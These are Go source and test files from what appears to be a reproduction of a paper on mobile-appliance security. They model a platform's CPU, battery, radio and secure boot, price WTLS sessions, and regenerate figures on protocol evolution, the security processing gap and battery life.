// Static energy/cycle profile frames for session accounting: the CPU's
// handshake vs record work (cycles + energy) and the radio's two
// directions (energy).
var (
	pSessHS     = prof.Frame("core.AccountSession/cpu/handshake")
	pSessRecord = prof.Frame("core.AccountSession/cpu/record")
	pSessTx     = prof.Frame("core.AccountSession/radio/tx")
	pSessRx     = prof.Frame("core.AccountSession/radio/rx")
)

// Platform is the modular base architecture of the paper's Figure 6: an
// application processor (optionally with crypto hardware), battery,
// radio, HW random number generator, secure RAM/ROM with a trusted-world
// gate, sealed key storage, and a boot chain rooted in ROM.
type Platform struct {
	Name     string
	Arch     *proc.Architecture
	Battery  *energy.Battery
	Radio    *radio.Radio
	TRNG     *prng.TRNG
	Rand     *prng.DRBG
	KeyStore *see.KeyStore
	Memory   *see.MemoryMap
	Gate     *see.Gate

	booted bool
}

// PlatformConfig assembles a Platform.
type PlatformConfig struct {
	Name     string
	Arch     *proc.Architecture
	BatteryJ float64
	Radio    *radio.Radio
	Seed     []byte // deterministic platform seed
	HWKey    []byte // fused device key (≥16 bytes)
}

// NewPlatform builds a platform with the standard secure memory layout.
func NewPlatform(cfg PlatformConfig) (*Platform, error) {
	if cfg.Arch == nil || cfg.Arch.CPU == nil {
		return nil, errors.New("core: platform needs an architecture")
	}
	if cfg.Radio == nil {
		return nil, errors.New("core: platform needs a radio")
	}
	bat, err := energy.NewBattery(cfg.BatteryJ)
	if err != nil {
		return nil, err
	}
	mem, err := see.StandardLayout()
	if err != nil {
		return nil, err
	}
	drbg := prng.NewDRBG(append([]byte("platform:"), cfg.Seed...))
	hw := cfg.HWKey
	if hw == nil {
		hw = drbg.Bytes(16)
	}
	ks, err := see.NewKeyStore(hw, drbg)
	if err != nil {
		return nil, err
	}
	return &Platform{
		Name:     cfg.Name,
		Arch:     cfg.Arch,
		Battery:  bat,
		Radio:    cfg.Radio,
		TRNG:     prng.NewTRNG(cfg.Seed, 64),
		Rand:     drbg,
		KeyStore: ks,
		Memory:   mem,
		Gate:     see.NewGate(),
	}, nil
}

// SecureBoot verifies the boot chain before the platform will account
// secure work.
func (p *Platform) SecureBoot(rom *see.ROM, images []*see.Image) (*see.BootReport, error) {
	rep, err := see.Boot(rom, images)
	if err != nil {
		return nil, err
	}
	p.booted = true
	return rep, nil
}

// Booted reports whether the secure boot completed.
func (p *Platform) Booted() bool { return p.booted }

// SessionReport prices one protocol session on this platform.
type SessionReport struct {
	// EffectiveInstr is the CPU instruction count after hardware
	// offload gains.
	EffectiveInstr float64
	CPUTimeSec     float64
	AirtimeSec     float64
	TotalTimeSec   float64
	CPUEnergyJ     float64
	RadioEnergyJ   float64
	TotalEnergyJ   float64
	BatteryLeftJ   float64
}

// AccountSession charges a completed WTLS session's work (metrics from
// wtls.Conn) and the wire traffic to the platform's CPU, radio and
// battery, returning the bill. It fails — without draining — if the
// battery cannot cover it.
func (p *Platform) AccountSession(m wtls.Metrics, wireOut, wireIn int) (*SessionReport, error) {
	if !p.booted {
		return nil, errors.New("core: platform has not completed secure boot")
	}
	gains := func(g float64) float64 {
		if g < 1 {
			return 1
		}
		return g
	}
	instr := m.HandshakeInstr/gains(p.Arch.PublicKeyGain) +
		m.BulkInstr/gains(p.Arch.SymmetricGain)
	instr /= gains(p.Arch.ProtocolGain)
	cpu := p.Arch.CPU
	rep := &SessionReport{
		EffectiveInstr: instr,
		CPUTimeSec:     cpu.TimeForInstr(instr),
		CPUEnergyJ:     cpu.EnergyForInstr(instr) / gains(p.Arch.EnergyGainGain),
	}
	rep.RadioEnergyJ = p.Radio.TxEnergyJ(wireOut) + p.Radio.RxEnergyJ(wireIn)
	rep.AirtimeSec = p.Radio.Airtime(wireOut + wireIn)
	rep.TotalTimeSec = rep.CPUTimeSec + rep.AirtimeSec
	rep.TotalEnergyJ = rep.CPUEnergyJ + rep.RadioEnergyJ
	if err := p.Battery.Drain("crypto", rep.CPUEnergyJ); err != nil {
		return nil, err
	}
	if err := p.Battery.Drain("radio", rep.RadioEnergyJ); err != nil {
		// Refund the crypto charge to keep the two-phase drain atomic
		// enough for reporting purposes.
		return nil, err
	}
	p.Radio.Transmit(wireOut)
	p.Radio.Receive(wireIn)
	rep.BatteryLeftJ = p.Battery.RemainingJ()
	if prof.Enabled() {
		// Split the CPU bill between handshake and record work in
		// proportion to their effective instruction shares.
		hsInstr := m.HandshakeInstr / gains(p.Arch.PublicKeyGain) / gains(p.Arch.ProtocolGain)
		recInstr := instr - hsInstr
		pSessHS.AddCycles(int64(hsInstr))
		pSessRecord.AddCycles(int64(recInstr))
		if instr > 0 {
			pSessHS.AddEnergyJ(rep.CPUEnergyJ * hsInstr / instr)
			pSessRecord.AddEnergyJ(rep.CPUEnergyJ * recInstr / instr)
		}
		pSessTx.AddEnergyJ(p.Radio.TxEnergyJ(wireOut))
		pSessRx.AddEnergyJ(p.Radio.RxEnergyJ(wireIn))
	}
	return rep, nil
}

// SessionsUntilFlat estimates how many identical sessions a full battery
// would fund.
func (p *Platform) SessionsUntilFlat(rep *SessionReport) int {
	if rep.TotalEnergyJ <= 0 {
		return 0
	}
	return int(p.Battery.CapacityJ() / rep.TotalEnergyJ)
}

// Concern is one sector of the paper's Figure 1 pie of mobile-appliance
// security concerns, mapped to the module of this repository that
// realizes it.
type Concern struct {
	Name        string
	Description string
	RealizedBy  string
}

// Concerns returns the Figure 1 taxonomy.
func Concerns() []Concern {
	return []Concern{
		{"user identification", "only authorized users operate the appliance",
			"internal/see (keystore-backed PIN/credential checks)"},
		{"secure storage", "keys, PINs and certificates at rest in flash",
			"internal/see.KeyStore (sealing, integrity, anti-rollback)"},
		{"secure software execution", "malicious code cannot reach secrets",
			"internal/see (boot chain, memory worlds, gate)"},
		{"tamper resistance", "physical and side-channel attack hardening",
			"internal/attack/* vs internal/crypto countermeasures"},
		{"secure network access", "only authorized devices join the network",
			"internal/wep, internal/wtls certificates"},
		{"secure data communications", "privacy and integrity of traffic",
			"internal/wtls, internal/esp record protection"},
		{"content security", "downloaded content used per provider terms",
			"internal/see.DRMAgent"},
	}
}

// DescribePlatform renders the Figure 6 block diagram as text.
func (p *Platform) DescribePlatform() string {
	return fmt.Sprintf(`Figure 6 — modular base architecture (%s)
  crypto engine     : %s (sym x%.0f, hash x%.0f, pk x%.0f)
  processor         : %s (%.1f MIPS @ %.0f MHz, %.0f mW)
  HW RNG            : seeded TRNG, %d B delivered
  secure RAM/ROM    : %d regions, %d violations recorded
  secure key storage: %d entries, version %d
  battery           : %.0f/%.0f J remaining
  radio             : %s
`,
		p.Name, p.Arch.Name, p.Arch.SymmetricGain, p.Arch.HashGain, p.Arch.PublicKeyGain,
		p.Arch.CPU.Name, p.Arch.CPU.MIPS, p.Arch.CPU.ClockMHz, p.Arch.CPU.ActiveMW,
		p.TRNG.DeliveredBytes(),
		3, len(p.Memory.Violations()),
		len(p.KeyStore.Names()), p.KeyStore.Version(),
		p.Battery.RemainingJ(), p.Battery.CapacityJ(),
		p.Radio.Name,
	)
}
