package core

import (
	"math"
	"strings"
	"testing"

	"repro/internal/cost"
	"repro/internal/proc"
	"repro/internal/radio"
	"repro/internal/see"
	"repro/internal/wtls"
)

// ---- Figure 2 ----

func TestTimelineCoverage(t *testing.T) {
	byFam := RevisionsByFamily()
	for _, fam := range Families() {
		if len(byFam[fam]) < 3 {
			t.Errorf("family %s has %d revisions; Figure 2 shows continuous evolution", fam, len(byFam[fam]))
		}
	}
	// The paper's concrete anchor: TLS gained AES in June 2002.
	found := false
	for _, r := range byFam["SSL/TLS"] {
		if strings.Contains(r.Name, "AES") && math.Abs(r.Year-2002.5) < 0.2 {
			found = true
		}
	}
	if !found {
		t.Error("timeline missing the June 2002 TLS/AES revision the paper cites")
	}
}

// TestWirelessProtocolsYoungerAndFaster is Figure 2's qualitative claim:
// wireless families start later and revise at a higher rate.
func TestWirelessProtocolsYoungerAndFaster(t *testing.T) {
	byFam := RevisionsByFamily()
	wiredStart := math.Min(byFam["IPSec"][0].Year, byFam["SSL/TLS"][0].Year)
	for _, fam := range []string{"WTLS", "MET"} {
		if byFam[fam][0].Year <= wiredStart+2 {
			t.Errorf("%s should start well after the wired protocols", fam)
		}
	}
	wiredRate, err := RevisionRate("SSL/TLS")
	if err != nil {
		t.Fatal(err)
	}
	for _, fam := range []string{"WTLS", "MET"} {
		r, err := RevisionRate(fam)
		if err != nil {
			t.Fatal(err)
		}
		if r <= wiredRate {
			t.Errorf("%s revision rate %.2f/yr should exceed SSL/TLS %.2f/yr", fam, r, wiredRate)
		}
	}
}

func TestRevisionRateErrors(t *testing.T) {
	if _, err := RevisionRate("NOPE"); err == nil {
		t.Error("accepted unknown family")
	}
}

func TestRenderTimeline(t *testing.T) {
	out := RenderTimeline()
	for _, fam := range Families() {
		if !strings.Contains(out, fam) {
			t.Errorf("render missing family %s", fam)
		}
	}
	if !strings.Contains(out, "*") {
		t.Error("render has no revision markers")
	}
}

// ---- Figure 3 ----

func TestGapSurfaceShape(t *testing.T) {
	s, err := ComputeGapSurface(DefaultLatencies(), DefaultRates(), 300)
	if err != nil {
		t.Fatal(err)
	}
	// The paper's anchor: at 10 Mbps bulk alone the demand is ≈651.3 —
	// far above the 300-MIPS plane at every latency.
	for i, l := range s.Latencies {
		for j, r := range s.Rates {
			p := s.Points[i][j]
			if r >= 10 && p.DemandMIPS <= 300 {
				t.Errorf("latency %.2f rate %.0f: demand %.1f should exceed the plane", l, r, p.DemandMIPS)
			}
		}
	}
	// Monotone in both axes.
	for i := range s.Latencies {
		for j := 1; j < len(s.Rates); j++ {
			if s.Points[i][j].DemandMIPS <= s.Points[i][j-1].DemandMIPS {
				t.Fatal("demand not increasing in rate")
			}
		}
	}
	for j := range s.Rates {
		for i := 1; i < len(s.Latencies); i++ {
			if s.Points[i][j].DemandMIPS >= s.Points[i-1][j].DemandMIPS {
				t.Fatal("demand not decreasing in latency")
			}
		}
	}
	if g := s.GapFraction(); g <= 0.3 || g >= 1.0 {
		t.Fatalf("gap fraction %.2f implausible for the default envelope", g)
	}
}

// TestGapAnchor651: the exact Section 3.2 number falls out of the surface.
func TestGapAnchor651(t *testing.T) {
	s, err := ComputeGapSurface([]float64{1000}, []float64{10}, 300)
	if err != nil {
		t.Fatal(err)
	}
	// Huge latency isolates the bulk term.
	if d := s.Points[0][0].DemandMIPS; math.Abs(d-651.3) > 0.2 {
		t.Fatalf("bulk demand at 10 Mbps = %.2f MIPS, paper says 651.3", d)
	}
}

func TestMaxFeasibleRate(t *testing.T) {
	s, _ := ComputeGapSurface(DefaultLatencies(), DefaultRates(), 300)
	r1 := s.MaxFeasibleRate(1.0)
	r01 := s.MaxFeasibleRate(0.1)
	if r1 <= r01 {
		t.Fatalf("relaxing latency must not shrink the feasible rate (%.1f vs %.1f)", r1, r01)
	}
	if r1 >= 10 {
		t.Fatalf("a 300-MIPS plane cannot feed 10 Mbps of 3DES+SHA (got %.1f)", r1)
	}
}

func TestGapSurfaceLighterSuite(t *testing.T) {
	heavy, _ := ComputeGapSurface(DefaultLatencies(), DefaultRates(), 300)
	light, err := ComputeGapSurfaceFor(DefaultLatencies(), DefaultRates(), 300,
		cost.HandshakeRSA1024, cost.RC4, cost.MD5)
	if err != nil {
		t.Fatal(err)
	}
	if light.GapFraction() >= heavy.GapFraction() {
		t.Fatal("RC4+MD5 should shrink the gap versus 3DES+SHA")
	}
}

func TestGapSurfaceValidation(t *testing.T) {
	if _, err := ComputeGapSurface(nil, DefaultRates(), 300); err == nil {
		t.Error("accepted empty latency axis")
	}
	if _, err := ComputeGapSurface(DefaultLatencies(), nil, 300); err == nil {
		t.Error("accepted empty rate axis")
	}
	if _, err := ComputeGapSurfaceFor([]float64{1}, []float64{1}, 300,
		cost.HandshakeKind("x"), cost.DES3, cost.SHA1); err == nil {
		t.Error("accepted unknown handshake kind")
	}
}

func TestGapRender(t *testing.T) {
	s, _ := ComputeGapSurface(DefaultLatencies(), DefaultRates(), 300)
	out := s.Render()
	// At 1.0 s latency and 10 Mbps the cell is 47 + 651.3 = 698.3 MIPS.
	if !strings.Contains(out, "698.3") {
		t.Error("render missing the anchor demand value 698.3")
	}
	if !strings.Contains(out, "*") {
		t.Error("render shows no gap region")
	}
}

// TestAcceleratorAblation is experiment B1: each architecture rung lowers
// demand; hardware closes the gap.
func TestAcceleratorAblation(t *testing.T) {
	cpu, err := proc.ByName("StrongARM-SA1100")
	if err != nil {
		t.Fatal(err)
	}
	rows, err := AcceleratorAblation(cpu)
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 4 {
		t.Fatalf("got %d rows", len(rows))
	}
	if rows[0].Feasible {
		t.Error("software-only should be infeasible at the anchor workload")
	}
	if !rows[len(rows)-1].Feasible {
		t.Error("protocol engine should be feasible at the anchor workload")
	}
	for i := 1; i < len(rows); i++ {
		if rows[i].DemandMIPS >= rows[i-1].DemandMIPS {
			t.Errorf("rung %s does not reduce demand", rows[i].Arch)
		}
		if rows[i].MaxRateMbps <= rows[i-1].MaxRateMbps {
			t.Errorf("rung %s does not raise max rate", rows[i].Arch)
		}
	}
}

// ---- Figure 4 ----

func TestBatteryFigureMatchesPaper(t *testing.T) {
	fig, err := ComputeBatteryFigure()
	if err != nil {
		t.Fatal(err)
	}
	if len(fig.Modes) != 2 {
		t.Fatalf("want 2 modes, got %d", len(fig.Modes))
	}
	plain, secure := fig.Modes[0], fig.Modes[1]
	// 26 kJ / 35.8 mJ ≈ 726k; 26 kJ / 77.8 mJ ≈ 334k.
	if plain.Transactions < 700_000 || plain.Transactions > 750_000 {
		t.Fatalf("plain transactions = %d, want ≈726k", plain.Transactions)
	}
	if secure.Transactions < 320_000 || secure.Transactions > 350_000 {
		t.Fatalf("secure transactions = %d, want ≈334k", secure.Transactions)
	}
	if secure.RelativeToPlain >= 0.5 {
		t.Fatalf("secure/plain = %.3f; the paper says less than half", secure.RelativeToPlain)
	}
	if secure.RelativeToPlain < 0.4 {
		t.Fatalf("secure/plain = %.3f; implausibly far from the paper's ≈0.46", secure.RelativeToPlain)
	}
}

// TestSimulationMatchesAnalytic: draining the battery model transaction
// by transaction agrees with the closed form within the batching error.
func TestSimulationMatchesAnalytic(t *testing.T) {
	analytic, _ := ComputeBatteryFigure()
	sim, err := SimulateBatteryFigure(100)
	if err != nil {
		t.Fatal(err)
	}
	for i := range sim.Modes {
		a := analytic.Modes[i].Transactions
		s := sim.Modes[i].Transactions
		if math.Abs(float64(a-s)) > 200 {
			t.Fatalf("mode %s: simulated %d vs analytic %d", sim.Modes[i].Name, s, a)
		}
	}
}

func TestBatteryRender(t *testing.T) {
	fig, _ := ComputeBatteryFigure()
	out := fig.Render()
	if !strings.Contains(out, "unencrypted") || !strings.Contains(out, "secure") {
		t.Error("render missing modes")
	}
	if !strings.Contains(out, "#") {
		t.Error("render has no bars")
	}
}

// ---- Platform (Figures 1, 5, 6) ----

func testPlatform(t *testing.T) *Platform {
	t.Helper()
	cpu, err := proc.ByName("ARM7-cell-phone")
	if err != nil {
		t.Fatal(err)
	}
	p, err := NewPlatform(PlatformConfig{
		Name:     "handset-1",
		Arch:     proc.SoftwareOnly(cpu),
		BatteryJ: 10_000,
		Radio:    radio.NewSensorRadio(),
		Seed:     []byte("test-platform"),
	})
	if err != nil {
		t.Fatal(err)
	}
	return p
}

func bootPlatform(t *testing.T, p *Platform) {
	t.Helper()
	images := []*see.Image{
		{Name: "boot", Code: []byte("loader")},
		{Name: "os", Code: []byte("kernel")},
	}
	rom, err := see.BuildChain(images)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := p.SecureBoot(rom, images); err != nil {
		t.Fatal(err)
	}
}

func TestPlatformRequiresBoot(t *testing.T) {
	p := testPlatform(t)
	if _, err := p.AccountSession(wtls.Metrics{}, 0, 0); err == nil {
		t.Fatal("unbooted platform accounted a session")
	}
	bootPlatform(t, p)
	if !p.Booted() {
		t.Fatal("boot flag not set")
	}
}

func TestPlatformAccounting(t *testing.T) {
	p := testPlatform(t)
	bootPlatform(t, p)
	m := wtls.Metrics{
		FullHandshakes: 1,
		HandshakeInstr: 47e6,
		BulkInstr:      1e6,
		AppBytesOut:    1024,
		AppBytesIn:     1024,
	}
	rep, err := p.AccountSession(m, 1200, 1200)
	if err != nil {
		t.Fatal(err)
	}
	// 48e6 instr on a 20-MIPS ARM7 is 2.4 s of CPU time.
	if math.Abs(rep.CPUTimeSec-2.4) > 0.01 {
		t.Fatalf("CPU time %.3f s, want ≈2.4", rep.CPUTimeSec)
	}
	if rep.TotalEnergyJ <= 0 || rep.BatteryLeftJ >= p.Battery.CapacityJ() {
		t.Fatal("energy not accounted")
	}
	if p.Battery.Drained("crypto") <= 0 || p.Battery.Drained("radio") <= 0 {
		t.Fatal("ledger categories missing")
	}
	if n := p.SessionsUntilFlat(rep); n <= 0 {
		t.Fatal("SessionsUntilFlat broken")
	}
}

// TestAccelerationReducesBill: the same session on a crypto-accelerated
// architecture costs less time and energy (the Section 4.2 payoff).
func TestAccelerationReducesBill(t *testing.T) {
	cpu, _ := proc.ByName("ARM7-cell-phone")
	mkReport := func(arch *proc.Architecture) *SessionReport {
		p, err := NewPlatform(PlatformConfig{
			Name: "x", Arch: arch, BatteryJ: 10_000,
			Radio: radio.NewSensorRadio(), Seed: []byte("s"),
		})
		if err != nil {
			t.Fatal(err)
		}
		bootPlatform(t, p)
		rep, err := p.AccountSession(wtls.Metrics{HandshakeInstr: 47e6, BulkInstr: 5e6}, 2048, 2048)
		if err != nil {
			t.Fatal(err)
		}
		return rep
	}
	sw := mkReport(proc.SoftwareOnly(cpu))
	hw := mkReport(proc.WithCryptoAccelerator(cpu))
	if hw.CPUTimeSec >= sw.CPUTimeSec {
		t.Fatal("accelerator did not reduce CPU time")
	}
	if hw.CPUEnergyJ >= sw.CPUEnergyJ {
		t.Fatal("accelerator did not reduce energy")
	}
}

func TestPlatformValidation(t *testing.T) {
	if _, err := NewPlatform(PlatformConfig{}); err == nil {
		t.Error("accepted empty config")
	}
	cpu, _ := proc.ByName("ARM7-cell-phone")
	if _, err := NewPlatform(PlatformConfig{Arch: proc.SoftwareOnly(cpu)}); err == nil {
		t.Error("accepted config without radio")
	}
	if _, err := NewPlatform(PlatformConfig{
		Arch: proc.SoftwareOnly(cpu), Radio: radio.NewSensorRadio(), BatteryJ: -1,
	}); err == nil {
		t.Error("accepted negative battery")
	}
}

func TestConcernsTaxonomy(t *testing.T) {
	cs := Concerns()
	if len(cs) != 7 {
		t.Fatalf("Figure 1 has 7 concerns, got %d", len(cs))
	}
	for _, c := range cs {
		if c.Name == "" || c.Description == "" || c.RealizedBy == "" {
			t.Errorf("incomplete concern %+v", c)
		}
	}
}

func TestDescribePlatform(t *testing.T) {
	p := testPlatform(t)
	out := p.DescribePlatform()
	for _, want := range []string{"crypto engine", "HW RNG", "secure RAM/ROM", "battery", "radio"} {
		if !strings.Contains(out, want) {
			t.Errorf("description missing %q", want)
		}
	}
}

func TestGapCSV(t *testing.T) {
	s, _ := ComputeGapSurface([]float64{0.5, 1}, []float64{1, 10}, 300)
	csv := s.CSV()
	lines := strings.Split(strings.TrimSpace(csv), "\n")
	if len(lines) != 3 {
		t.Fatalf("csv has %d lines, want 3", len(lines))
	}
	if !strings.HasPrefix(lines[0], "latency_s,1_mbps,10_mbps") {
		t.Fatalf("csv header: %s", lines[0])
	}
	if !strings.HasPrefix(lines[1], "0.5,") {
		t.Fatalf("csv row: %s", lines[1])
	}
}

func TestBatteryCSV(t *testing.T) {
	fig, _ := ComputeBatteryFigure()
	csv := fig.CSV()
	if !strings.Contains(csv, "unencrypted,") || !strings.Contains(csv, "secure (RSA),") {
		t.Fatalf("csv missing modes:\n%s", csv)
	}
	if !strings.HasPrefix(csv, "mode,per_tx_joules,transactions,relative_to_plain\n") {
		t.Fatal("csv header wrong")
	}
}

// TestAccountSessionBatteryExhaustion: a dead battery refuses the session
// with ErrBatteryExhausted surfaced from the energy model.
func TestAccountSessionBatteryExhaustion(t *testing.T) {
	cpu, _ := proc.ByName("DragonBall-68EC000")
	p, err := NewPlatform(PlatformConfig{
		Name: "dying", Arch: proc.SoftwareOnly(cpu), BatteryJ: 0.000001,
		Radio: radio.NewSensorRadio(), Seed: []byte("x"),
	})
	if err != nil {
		t.Fatal(err)
	}
	bootPlatform(t, p)
	_, err = p.AccountSession(wtls.Metrics{HandshakeInstr: 47e6}, 1024, 1024)
	if err == nil {
		t.Fatal("dead battery accounted a session")
	}
}
