// Package core is the paper's platform layer: it ties the processor,
// battery, radio, protocol-stack and secure-execution substrates into a
// mobile-appliance model, and regenerates the paper's data figures — the
// protocol-evolution timeline (Figure 2), the wireless security
// processing gap (Figure 3) and the battery-life impact (Figure 4).
package core

import (
	"fmt"
	"sort"
	"strings"

	"repro/internal/obs"
)

// Figure 2 metric handles; disarmed by default.
var (
	mRevisionRates   = obs.C("core.revision_rates")
	mTimelineRenders = obs.C("core.timeline_renders")
)

// Revision is one protocol standard revision on the Figure 2 timeline.
type Revision struct {
	Family string  // "IPSec", "SSL/TLS", "WTLS", "MET"
	Name   string  // revision label
	Year   float64 // fractional year (e.g. 2002.5 = June 2002)
	Note   string  // what changed
}

// EvolutionTimeline reconstructs Figure 2 ("Evolution of security
// protocols"): the revision histories of the wired protocols (IPSec,
// SSL/TLS) and the younger wireless ones (WTLS, MET). Dates come from the
// published standards history; the paper's figure is qualitative, and the
// claims it supports — wired protocols revise continuously (e.g. TLS
// gained AES in June 2002), wireless protocols are younger and revise
// faster — are what the reproduction checks.
func EvolutionTimeline() []Revision {
	return []Revision{
		// SSL / TLS.
		{"SSL/TLS", "SSL 2.0", 1995.1, "first deployed SSL"},
		{"SSL/TLS", "SSL 3.0", 1996.9, "redesign after SSL 2.0 breaks"},
		{"SSL/TLS", "TLS 1.0 (RFC 2246)", 1999.1, "IETF standardization"},
		{"SSL/TLS", "TLS extensions drafts", 2001.5, "wireless-motivated extensions"},
		{"SSL/TLS", "AES cipher suites (RFC 3268)", 2002.5, "June 2002: AES added, the paper's example"},
		// IPSec.
		{"IPSec", "RFC 1825-1829", 1995.6, "first IPSec architecture"},
		{"IPSec", "RFC 2401-2412", 1998.9, "IKE and revised ESP/AH"},
		{"IPSec", "AES drafts", 2002.0, "AES transforms in progress"},
		// WTLS.
		{"WTLS", "WAP 1.0 WTLS", 1998.3, "initial wireless TLS adaptation"},
		{"WTLS", "WAP 1.1 WTLS", 1999.5, "fixes to initial release"},
		{"WTLS", "WAP 1.2 WTLS", 1999.9, "additional ciphers and classes"},
		{"WTLS", "WAP 2.0 (TLS profile)", 2002.1, "converges back toward wired TLS"},
		// MET.
		{"MET", "MeT 1.0", 2000.9, "mobile electronic transactions framework"},
		{"MET", "MeT PTD definition 1.1", 2001.1, "Feb 2001, the paper's ref [1]"},
		{"MET", "MeT 2.0 drafts", 2002.3, "rapid follow-on revision"},
	}
}

// Families returns the protocol families on the timeline, wired first.
func Families() []string { return []string{"IPSec", "SSL/TLS", "WTLS", "MET"} }

// RevisionsByFamily groups the timeline per family, sorted by date.
func RevisionsByFamily() map[string][]Revision {
	m := make(map[string][]Revision)
	for _, r := range EvolutionTimeline() {
		m[r.Family] = append(m[r.Family], r)
	}
	for f := range m {
		sort.Slice(m[f], func(i, j int) bool { return m[f][i].Year < m[f][j].Year })
	}
	return m
}

// RevisionRate returns revisions per year over a family's active span —
// the quantitative form of "wireless protocols are still in their
// infancy" (younger families revise faster).
func RevisionRate(family string) (float64, error) {
	revs := RevisionsByFamily()[family]
	if len(revs) < 2 {
		return 0, fmt.Errorf("core: family %q has too few revisions", family)
	}
	span := revs[len(revs)-1].Year - revs[0].Year
	if span <= 0 {
		return 0, fmt.Errorf("core: family %q has zero time span", family)
	}
	mRevisionRates.Inc()
	return float64(len(revs)) / span, nil
}

// RenderTimeline produces an ASCII Figure 2: one row per family, one
// column per year, '*' at each revision.
func RenderTimeline() string {
	const startYear, endYear = 1994, 2003
	mTimelineRenders.Inc()
	var sb strings.Builder
	sb.WriteString("Figure 2 — evolution of security protocols (reconstruction)\n")
	sb.WriteString(fmt.Sprintf("%-8s ", ""))
	for y := startYear; y <= endYear; y++ {
		sb.WriteString(fmt.Sprintf("%-5d", y))
	}
	sb.WriteString("\n")
	byFam := RevisionsByFamily()
	for _, fam := range Families() {
		row := make([]byte, (endYear-startYear+1)*5)
		for i := range row {
			row[i] = '-'
		}
		for _, r := range byFam[fam] {
			pos := int((r.Year - startYear) * 5)
			if pos >= 0 && pos < len(row) {
				row[pos] = '*'
			}
		}
		sb.WriteString(fmt.Sprintf("%-8s %s\n", fam, row))
	}
	sb.WriteString("each '*' is one standard revision; see EvolutionTimeline() for labels\n")
	return sb.String()
}
