package core

import (
	"bytes"
	"testing"

	"repro/internal/cost"
	"repro/internal/obs/journal"
	"repro/internal/par"
)

// journalRun arms the default journal at debug level, runs fn, and
// returns the deterministic (t_sim, seq) JSONL serialization of the
// events it emitted. Not t.Parallel: it owns journal.Default for the
// duration, which is safe because Go never interleaves non-parallel
// tests.
func journalRun(t *testing.T, workers int, fn func() error) []byte {
	t.Helper()
	prev := par.DefaultWorkers()
	par.SetDefaultWorkers(workers)
	defer par.SetDefaultWorkers(prev)

	journal.Default.Reset()
	journal.Default.SetMinLevel(journal.LevelDebug)
	journal.Default.SetEnabled(true)
	defer func() {
		journal.Default.SetEnabled(false)
		journal.Default.SetMinLevel(journal.LevelInfo)
		journal.Default.Reset()
	}()

	if err := fn(); err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := journal.Default.WriteJSONL(&buf); err != nil {
		t.Fatal(err)
	}
	if buf.Len() == 0 {
		t.Fatal("run journaled nothing; instrumentation lost?")
	}
	return buf.Bytes()
}

// TestGapSurfaceJournalDeterministic is the golden determinism check of
// the journal's merge order: the same sweep journaled at 1 and 8 workers
// must serialize byte-identically, because task events carry the task
// index as t_sim and never a worker id.
func TestGapSurfaceJournalDeterministic(t *testing.T) {
	gap := func() error {
		_, err := ComputeGapSurfaceFor(DefaultLatencies(), DefaultRates(), 300,
			cost.HandshakeRSA1024, cost.DES3, cost.SHA1)
		return err
	}
	seq := journalRun(t, 1, gap)
	for _, workers := range []int{4, 8} {
		got := journalRun(t, workers, gap)
		if !bytes.Equal(seq, got) {
			t.Fatalf("journal differs between 1 and %d workers:\n--- 1 worker (%d bytes)\n%.400s\n--- %d workers (%d bytes)\n%.400s",
				workers, len(seq), seq, workers, len(got), got)
		}
	}
}

// TestLossFigureJournalDeterministic does the same for the analytic
// lossy-link figure, whose per-BER points journal at info level.
func TestLossFigureJournalDeterministic(t *testing.T) {
	loss := func() error {
		_, err := ComputeLossFigure(0.01, nil)
		return err
	}
	seq := journalRun(t, 1, loss)
	got := journalRun(t, 8, loss)
	if !bytes.Equal(seq, got) {
		t.Fatalf("loss figure journal differs between 1 and 8 workers:\n--- 1 worker\n%.400s\n--- 8 workers\n%.400s", seq, got)
	}
}
