package core

import (
	"strings"
	"testing"
)

func TestComputeLossFigureMonotonic(t *testing.T) {
	fig, err := ComputeLossFigure(0.01, nil)
	if err != nil {
		t.Fatal(err)
	}
	if len(fig.Points) != len(DefaultLossBERs) {
		t.Fatalf("got %d points", len(fig.Points))
	}
	for i, p := range fig.Points {
		if p.LinkDown {
			if p.Transactions != 0 {
				t.Fatalf("link-down point %d reports %d transactions", i, p.Transactions)
			}
			continue
		}
		if p.Transactions <= 0 {
			t.Fatalf("point %d degenerate: %+v", i, p)
		}
		if i > 0 && !fig.Points[i-1].LinkDown {
			prev := fig.Points[i-1]
			if p.Transactions > prev.Transactions {
				t.Fatalf("transactions rose with BER: %d @ %g -> %d @ %g",
					prev.Transactions, prev.BER, p.Transactions, p.BER)
			}
			if p.PerTxJoules <= prev.PerTxJoules {
				t.Fatalf("per-tx energy did not rise with BER")
			}
			if p.RetxJoules < prev.RetxJoules {
				t.Fatalf("retransmit energy fell with BER")
			}
		}
	}
	first, last := fig.Points[0], fig.Points[len(fig.Points)-1]
	if !last.LinkDown {
		t.Fatal("highest default BER should exhaust the retry budget")
	}
	if first.Transactions == 0 || first.TxPerFrame > 1.2 {
		t.Fatalf("near-clean channel mispriced: %+v", first)
	}
}

func TestComputeLossFigureCleanChannelHasNoRetransmitCost(t *testing.T) {
	fig, err := ComputeLossFigure(0, []float64{0})
	if err != nil {
		t.Fatal(err)
	}
	p := fig.Points[0]
	if p.RetxJoules != 0 || p.TxPerFrame != 1 || p.FrameErrorRate != 0 {
		t.Fatalf("clean channel charged for repairs: %+v", p)
	}
	// Sanity against Figure 4's scale: 1 KB each way plus ARQ overhead
	// must cost slightly more than the raw 35.8 mJ transaction.
	raw := (21.5 + 14.3) / 1e3
	if p.PerTxJoules < raw || p.PerTxJoules > raw*1.1 {
		t.Fatalf("clean per-tx %.5f J out of range vs raw %.5f J", p.PerTxJoules, raw)
	}
}

func TestComputeLossFigureRejectsBadRates(t *testing.T) {
	if _, err := ComputeLossFigure(1.0, nil); err == nil {
		t.Fatal("drop=1 accepted")
	}
	if _, err := ComputeLossFigure(0, []float64{2}); err == nil {
		t.Fatal("BER=2 accepted")
	}
}

func TestSimulateLossFigure(t *testing.T) {
	fig, err := SimulateLossFigure(0.05, []float64{0, 5e-4}, 42, 6)
	if err != nil {
		t.Fatal(err)
	}
	if len(fig.Points) != 2 || len(fig.RetxJ) != 2 {
		t.Fatalf("unexpected shape: %+v", fig)
	}
	for i, p := range fig.Points {
		if p.LinkDown || p.Transactions <= 0 {
			t.Fatalf("point %d did not complete: %+v", i, p)
		}
		// The 5% drop rate alone forces repairs at both points.
		if p.RetxJoules <= 0 || fig.RetxJ[i] <= 0 {
			t.Fatalf("point %d has no itemized retransmission energy", i)
		}
